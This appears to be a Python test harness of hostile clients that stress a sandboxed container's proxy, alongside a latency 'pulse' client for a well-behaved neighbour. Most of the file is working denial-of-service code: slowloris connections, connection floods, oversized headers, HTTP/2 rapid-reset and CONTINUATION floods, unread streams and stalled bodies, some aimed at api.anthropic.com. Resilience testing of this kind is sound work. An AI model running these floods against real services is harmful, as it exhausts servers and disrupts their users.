"""Hostile clients of one bottle, and the pulse of another. Each prints what it has reached, one line.

Called with the word `lasting` before its own, a client says that it has begun, and goes on until there is a file `over`
beside it: so others can be looked at meanwhile, however long that takes."""
import os, resource, socket, ssl, struct, sys, threading, time

HOST = "sink.example"
LASTS = sys.argv[1] == "lasting"
OVER = os.path.join(os.path.dirname(os.path.abspath(__file__)), "over")


def tls(host):
    return ssl.create_default_context().wrap_socket(socket.create_connection((host, 443), 30), server_hostname=host)


def say(*words):
    print(*words, flush=True)


def goes_on():
    """Tells whether nobody has said yet that it is over."""
    return LASTS and not os.path.exists(OVER)


def again(attack):
    """Does something at least once, and on until it is over. Gets what each time gave."""
    gave = [attack()]
    while goes_on():
        gave.append(attack())
    return gave


def stand(seconds):
    """Waits so many seconds, and on until it is over."""
    end = time.time() + float(seconds)
    while time.time() < end or goes_on():
        time.sleep(0.05)


def gone(s):
    """Tells whether the other side has closed."""
    try:
        s.settimeout(0)
        return s.recv(4096) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def slow(kind, count, seconds):
    """Many connections that say one byte at a time. Prints how many are open in the end."""
    if kind == "head":
        text = f"GET /hello HTTP/1.1\r\nHost: {HOST}\r\nX: ".encode() + b"x" * 10000
        start, port = 10, 80
    elif kind == "body":
        text = f"POST /sink HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 1000000\r\n\r\n".encode() + b"x" * 10000
        start, port = text.index(b"\r\n\r\n") + 4, 80
    else:
        client, out = ssl.create_default_context(), ssl.MemoryBIO()
        hello = client.wrap_bio(ssl.MemoryBIO(), out, server_hostname=HOST)
        try:
            hello.do_handshake()
        except ssl.SSLWantReadError:
            text = out.read()
        start, port = 1, 443
    open_ = []
    for _ in range(int(count)):
        s = socket.create_connection((HOST, port), 30)
        s.sendall(text[:start])
        open_.append(s)
    say("begun", len(open_))
    end, at = time.time() + float(seconds), start
    while time.time() < end:
        for s in list(open_):
            try:
                s.sendall(text[at : at + 1])
            except OSError:
                pass
            if gone(s):
                open_.remove(s)
        at += 1
        time.sleep(0.1)
    say("open", len(open_))


def many(count):
    """Connections one after the other, none of which is let go. Prints the most that were open at once."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
    open_, most, tried = [], 0, 0
    while tried < int(count) or goes_on():
        for _ in range(250):
            try:
                s = socket.create_connection((HOST, 80), 30)
                s.sendall(b"G")
                open_.append(s)
            except OSError:
                pass
            tried += 1
        time.sleep(0.05)
        open_ = [s for s in open_ if not gone(s)]
        most = max(most, len(open_))
    say("tried", tried, "open", len(open_), "most", most)


def heads():
    """A head that is far too large, and one of far too many lines. Prints the statuses of each."""

    def status(more):
        s = socket.create_connection((HOST, 80), 30)
        try:
            s.sendall(f"GET /hello HTTP/1.1\r\nHost: {HOST}\r\n".encode() + more + b"\r\n\r\n")
        except OSError:
            pass
        try:
            return s.recv(12).decode()[9:] or "closed"
        except OSError:
            return "closed"

    large, long = b"X: " + b"x" * 1_000_000, b"".join(b"X-%d: y\r\n" % n for n in range(5000))
    for statuses in zip(*again(lambda: (status(large), status(long)))):
        say("status", *sorted(set(statuses)))


def fetch(path, host=HOST, body=None):
    """Reads an answer to its end. Prints how much it was, at least."""
    body = body or b""
    method = "POST" if body else "GET"

    def once():
        s = tls(host)
        s.sendall(
            f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nanthropic-version: 2023-06-01\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body
        )
        read, first = 0, b""
        try:
            while more := s.recv(1 << 18):
                read += len(more)
                first = first or more[:12]
        except OSError as e:
            say("broke", e)
        return first.decode("latin-1")[9:], read

    gave = again(once)
    others = sorted({status for status, _ in gave} - {"200"})
    say("status", "other than 200:" if others else "200", *others, "read", min(read for _, read in gave))


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def h2(flood, count):
    """Floods of HTTP/2: requests that are reset at once, or one head that does not end. Prints how their connections end."""
    gave = again(lambda: flooded(flood, int(count)))
    say("sent", min(sent for sent, _ in gave), "ended" if all(ended for _, ended in gave) else "open")


def flooded(flood, count):
    """One such connection. Gets how much was sent, and whether the other side has ended it."""
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    s = context.wrap_socket(socket.create_connection((HOST, 443), 30), server_hostname=HOST)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    # GET, https, /, and the name, none of them indexed.
    head = b"\x82\x87\x84\x01" + bytes([len(HOST)]) + HOST.encode()
    sent, ended = 0, False
    try:
        if flood == "head":
            s.sendall(frame(1, 1, 1, head))
        for n in range(count):
            stream = 2 * n + 1
            if flood == "resets":
                s.sendall(frame(1, 5, stream, head) + frame(3, 0, stream, struct.pack(">I", 8)))
            else:
                s.sendall(frame(9, 0, 1, b"\x00\x04name" + b"\x7f\x81\x7f" + b"v" * 16000))
            sent += 1
    except OSError:
        ended = True
    said = b""
    # One that is not ended goes on saying nothing: the next one is not to wait for that.
    s.settimeout(5 if flood == "head" else 0.2)
    try:
        while more := s.recv(65536):
            said += more
    except OSError:
        pass
    # A frame of type 7 says goodbye.
    at = 0
    while at + 9 <= len(said):
        ended |= said[at + 3] == 7
        at += 9 + int.from_bytes(said[at : at + 3], "big")
    return sent, ended


def literal(index, text):
    """A header that is not indexed, by the number of its name in the static table."""
    return (bytes([index]) if index < 15 else bytes([15, index - 15])) + bytes([len(text)]) + text.encode()


def h2_open(host, window):
    """Opens a connection of HTTP/2 whose answers may have a window each; gets it, and what may be sent on one stream of it."""
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    s = context.wrap_socket(socket.create_connection((host, 443), 30), server_hostname=host)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack(">HI", 4, window)))
    s.sendall(frame(8, 0, 0, struct.pack(">I", 2**31 - 1 - 65535)))
    # Its settings, and what it adds to the connection's window, until it has acknowledged ours.
    said, at, stream, connection, known = b"", 0, 65535, 65535, False
    while not known:
        more = s.recv(4096)
        if not more:
            break
        said += more
        while at + 9 <= len(said) and at + 9 + int.from_bytes(said[at : at + 3], "big") <= len(said):
            length, kind, flags = int.from_bytes(said[at : at + 3], "big"), said[at + 3], said[at + 4]
            payload = said[at + 9 : at + 9 + length]
            known |= kind == 4 and flags & 1 == 1
            for n in range(0, length if kind == 4 else 0, 6):
                name, value = struct.unpack(">HI", payload[n : n + 6])
                stream = value if name == 4 else stream
            if kind == 8:
                connection += int.from_bytes(payload, "big")
            at += 9 + length
    return s, stream, connection


def unread(count, streams, seconds):
    """Answers without an end over HTTP/2, with every window open, none of which is read. Prints how many connections stand."""
    open_ = []
    for _ in range(int(count)):
        s, _, _ = h2_open(HOST, 2**31 - 1)
        head = b"\x82\x87" + literal(4, "/endless") + literal(1, HOST)
        for n in range(int(streams)):
            s.sendall(frame(1, 5, 2 * n + 1, head))
        open_.append(s)
    stand(seconds)
    say("open", sum(not s.recv(1) == b"" for s in open_))


def ahead(count, seconds):
    """Bodies over HTTP/2 that are sent as far as the windows go, and wait for their place. Prints how much was sent."""
    host, open_, sent = "api.anthropic.com", [], 0
    for _ in range(int(count)):
        s, stream, connection = h2_open(host, 65535)
        head = b"\x83\x87" + literal(4, "/v1/messages") + literal(1, host) + literal(28, str(32 << 20))
        left, n = connection, 1
        while left:
            s.sendall(frame(1, 4, n, head))
            mine = min(stream, left)
            for at in range(0, mine, 16384):
                s.sendall(frame(0, 0, n, b"x" * min(16384, mine - at)))
            left, n, sent = left - mine, n + 2, sent + mine
        open_.append(s)
    stand(seconds)
    say("sent", sent)


def bodies(kind, count, size, seconds):
    """Large bodies for a model, all at once, none of which ends. Prints how much of them was taken."""
    host, sent, open_ = "api.anthropic.com", [0] * int(count), []
    head = f"POST /v1/messages HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
    piece = b"[1]," * (1 << 14)

    def send(n, s):
        try:
            while sent[n] + len(piece) < int(size):
                s.sendall(b"%x\r\n%b\r\n" % (len(piece), piece) if kind == "chunked" else piece)
                sent[n] += len(piece)
        except OSError:
            pass

    for n in range(int(count)):
        s = tls(host)
        how = "Transfer-Encoding: chunked" if kind == "chunked" else f"Content-Length: {size}"
        s.sendall((head + how + "\r\n\r\n").encode())
        open_.append(s)
        threading.Thread(target=send, args=(n, s), daemon=True).start()
    before = -1
    while before != sum(sent):
        before = sum(sent)
        time.sleep(1)
    stand(seconds)
    say("sent", sum(sent))
    # Its threads are in the midst of sending, and need no goodbye.
    os._exit(0)


def asks(count, size):
    """Large bodies for a model, all at once, as a busy agent sends them. Prints how many were answered, at worst."""
    body = b'{"model":"m","max_tokens":9,"stream":true,"messages":[{"role":"user","content":"%b"}]}' % (b"x" * int(size))
    host = "api.anthropic.com"

    def once():
        answers = []

        def ask():
            s = tls(host)
            s.sendall(
                f"POST /v1/messages HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
                f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body
            )
            answers.append(s.recv(12)[9:])

        threads = [threading.Thread(target=ask) for _ in range(int(count))]
        [thread.start() for thread in threads]
        [thread.join() for thread in threads]
        return answers.count(b"200")

    say("answered", min(again(once)), "of", count)


def stall(count, seconds, port="80"):
    """Many answers without an end, none of which is read. Prints how many were asked for."""
    asked = []
    for _ in range(int(count)):
        s = tls(HOST) if port == "443" else socket.create_connection((HOST, 80), 30)
        s.sendall(f"GET /endless HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
        asked.append(s)
    stand(seconds)
    say("open", sum(not s.recv(1) == b"" for s in asked))


def model(word):
    body = '{"model":"m","max_tokens":9,"stream":true,"messages":[{"role":"user","content":"%s"}]}' % word
    fetch("/v1/messages", "api.anthropic.com", body.encode())


def upload(size):
    """Sends a body of a size. Prints what the server says that it was."""

    def once():
        s, left, piece = tls(HOST), int(size), b"u" * (1 << 18)
        s.sendall(f"POST /sink HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {left}\r\nConnection: close\r\n\r\n".encode())
        while left:
            left -= s.send(piece[: min(left, len(piece))])
        answer = b""
        while more := s.recv(65536):
            answer += more
        # In a chunk, or as it is.
        return [line for line in answer.decode().split("\r\n")[1:] if line == size]

    say("sunk", *min(again(once), key=len))


def pulse(count):
    """One request after the other, as a well-behaved bottle would. Prints how long they take, and how many failed."""
    took, failed = [], 0
    s = tls("good.example")
    for _ in range(int(count)):
        began = time.perf_counter()
        try:
            s.sendall(b"GET /pulse HTTP/1.1\r\nHost: good.example\r\n\r\n")
            answer = s.recv(65536)
            while b"pulse!" not in answer:
                more = s.recv(65536)
                assert more, answer
                answer += more
        except (OSError, AssertionError):
            failed += 1
            s = tls("good.example")
        took.append(time.perf_counter() - began)
        time.sleep(0.002)
    took.sort()
    say("p50", int(took[len(took) // 2] * 1e6), "p99", int(took[len(took) * 99 // 100] * 1e6), "failed", failed)


if LASTS:
    if os.path.exists(OVER):
        os.remove(OVER)
    say("begun")
name, *words = sys.argv[2 if LASTS else 1 :]
globals()[name](*words)
